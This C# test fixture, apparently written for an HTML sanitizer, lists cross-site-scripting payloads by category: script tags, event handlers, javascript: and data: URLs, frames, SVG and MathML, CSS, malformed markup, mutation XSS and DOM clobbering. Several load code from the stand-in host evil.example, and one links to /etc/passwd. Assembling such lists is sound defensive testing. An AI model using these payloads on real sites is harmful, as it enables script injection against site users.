namespace WraparoundCare.Kernel.Website.Tests.PropertyEditors.Html;

/// <summary>Ways in which markup tries to run something. Our own list, in kinds.</summary>
internal static class HostileMarkup
{
    public static readonly string[] All =
    [
        .. Scripts(), .. Handlers(), .. Addresses(), .. Frames(), .. OtherLanguages(), .. Styles(), .. BrokenMarkup(), .. Mutations(),
        .. Clobbering(),
    ];

    private static string[] Scripts() =>
    [
        "<script>run()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>run()</script>",
        "<script\n>run()</script\t>",
        "<scr<script>ipt>run()</scr</script>ipt>",
        "<<script>run();//<</script>",
        "<script>run()",
        "</p><script>run()</script>",
        "<script type=module>import '//evil.example'</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=run()>\"></noscript>",
    ];

    private static string[] Handlers() =>
    [
        "<img src=x onerror=run()>",
        "<img src=\"/a.png\" ONLOAD=run()>",
        "<img/src=x/onerror=run()>",
        "<img src=x onerror\n=\nrun()>",
        "<p onmouseover=\"run()\">x</p>",
        "<p \"onclick=run() x=\">x</p>",
        "<a href=\"#\" onfocus=run() autofocus tabindex=1>x</a>",
        "<details open ontoggle=run()><summary>x</summary></details>",
        "<td onclick=run()>x</td>",
        "<body onload=run()>x",
        "<h1 onpointerdown=run()>x</h1>",
        "<umb-rte-block data-content-key=\"5b1d5b1d-0000-0000-0000-000000000001\" onclick=run()>x</umb-rte-block>",
        "<x onclick=run()>x</x>",
        "<p oncopy=run() onbeforeinput=run() onanimationend=run()>x</p>",
    ];

    private static string[] Addresses() =>
    [
        "<a href=\"javascript:run()\">x</a>",
        "<a href=\"JaVaScRiPt:run()\">x</a>",
        "<a href=\" javascript:run()\">x</a>",
        "<a href=\"java\tscript:run()\">x</a>",
        "<a href=\"java\nscript:run()\">x</a>",
        "<a href=\"java&#9;script&colon;run()\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;run()\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;run()\">x</a>",
        "<a href=\"\u0001javascript:run()\">x</a>",
        "<a href=\"javascript\u0000:run()\">x</a>",
        "<a href=\"vbscript:run()\">x</a>",
        "<a href=\"data:text/html,<script>run()</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:https://example.nl/1\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"javascript://example.nl/%0Arun()\">x</a>",
        "<a href=\"/{localLink:javascript:run()}\">x</a>",
        "<a href=\"{localLink:x}javascript:run()\">x</a>",
        "<a href=\"view-source:javascript:run()\">x</a>",
        "<a ping=\"//evil.example\" href=\"/a\" data-anchor=\"javascript:run()\">x</a>",
        "<img src=\"javascript:run()\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cnVuKCk+\">",
        "<img src=\"data:text/html,x\">",
        "<img src=\"/a.png\" srcset=\"javascript:run() 1x\">",
        "<img src=\"data:image/png;base64,AAAA\" onerror=run() data-udi=\"umb://media/x\">",
        "<blockquote cite=\"javascript:run()\">x</blockquote>",
        "<table background=\"javascript:run()\"><tr><td background=\"javascript:run()\">x</td></tr></table>",
        "<form action=\"javascript:run()\"><button formaction=\"javascript:run()\">x</button></form>",
    ];

    private static string[] Frames() =>
    [
        "<iframe src=\"javascript:run()\"></iframe>",
        "<iframe srcdoc=\"<script>run()</script>\"></iframe>",
        "<object data=\"javascript:run()\"></object>",
        "<embed src=\"//evil.example/x.swf\">",
        "<applet code=x></applet>",
        "<frameset onload=run()><frame src=\"javascript:run()\"></frameset>",
        "<base href=\"javascript:run()//\"><a href=\"x\">x</a>",
        "<meta http-equiv=refresh content=\"0;url=javascript:run()\">",
        "<link rel=stylesheet href=\"javascript:run()\"><link rel=import href=//evil.example>",
        "<video poster=javascript:run()><source onerror=run() src=x></video>",
        "<audio src=x onerror=run()></audio>",
        "<portal src=\"javascript:run()\"></portal>",
        "<isindex type=image src=1 onerror=run()>",
        "<dialog open onclose=run()><form method=dialog><button>x</button></form></dialog>",
    ];

    private static string[] OtherLanguages() =>
    [
        "<svg onload=run()>",
        "<svg><script>run()</script></svg>",
        "<svg><a xlink:href=\"javascript:run()\"><text>x</text></a></svg>",
        "<svg><animate onbegin=run() attributeName=x dur=1s>",
        "<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=run()>#x\"></svg>",
        "<math><mi xlink:href=\"javascript:run()\">x</mi></math>",
        "<math href=\"javascript:run()\">x</math>",
        "<template><script>run()</script></template>",
        "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">run()</xss:script>",
        "<?xml version=\"1.0\"?><?import namespace=x implementation=//evil.example?>",
        "<![CDATA[<script>run()</script>]]>",
    ];

    private static string[] Styles() =>
    [
        "<style>@import '//evil.example';</style>",
        "<p style=\"background:url(javascript:run())\">x</p>",
        "<p style=\"width:expression(run())\">x</p>",
        "<p style=\"behavior:url(#default#time2)\" onbegin=run()>x</p>",
        "<style><img src=\"</style><img src=x onerror=run()>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=run()>\"></xmp>",
    ];

    private static string[] BrokenMarkup() =>
    [
        "<img src=\"x` `<script>run()</script>\"` `>",
        "<a href=\"x\" title=\"\"\" onclick=run() x=\">x</a>",
        "<img \"\"\"><script>run()</script>\">",
        "<p title='\"><script>run()</script>'>x</p>",
        "<p title=\"a&quot;><script>run()</script>\">x</p>",
        "<!--><script>run()</script>-->",
        "<!--[if gte IE 4]><script>run()</script><![endif]-->",
        "<!-- --!><script>run()</script>",
        "<p class=\"&quot;><img src=x onerror=run()>\">x</p>",
        "<textarea><img title=\"</textarea><img src=x onerror=run()>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=run()>\"></title>",
        "<plaintext><script>run()</script>",
        "\u0000<scr\u0000ipt>run()</scr\u0000ipt>",
        "<a href='x' href='javascript:run()'>x</a>",
    ];

    private static string[] Mutations() =>
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=run()&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=run()>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
        "<table><a href=\"javascript:run()\"><tr><td>x</td></tr></a></table>",
        "<select><template><img src=x onerror=run()></template></select>",
        "<noembed><img title=\"</noembed><img src onerror=run()>\"></noembed>",
        "<svg><p><style><!--</style><img src=x onerror=run()>--></p></svg>",
        "<listing>&lt;img src=x onerror=run()&gt;</listing>",
        "<p>&lt;script&gt;run()&lt;/script&gt;</p>",
        "<pre>\n\n<img src=x onerror=run()></pre>",
    ];

    private static string[] Clobbering() =>
    [
        "<a id=x name=documentElement>x</a><a id=x name=body href=\"javascript:run()\">x</a>",
        "<img name=cookie src=x onerror=run()>",
        "<p slot=x is=x-y part=x contenteditable nonce=abc>x</p>",
        "<p id=\"__proto__ x\" data-bind=\"run()\" ng-app x-data=\"run()\" v-on:click=\"run()\" @click=\"run()\">x</p>",
    ];
}
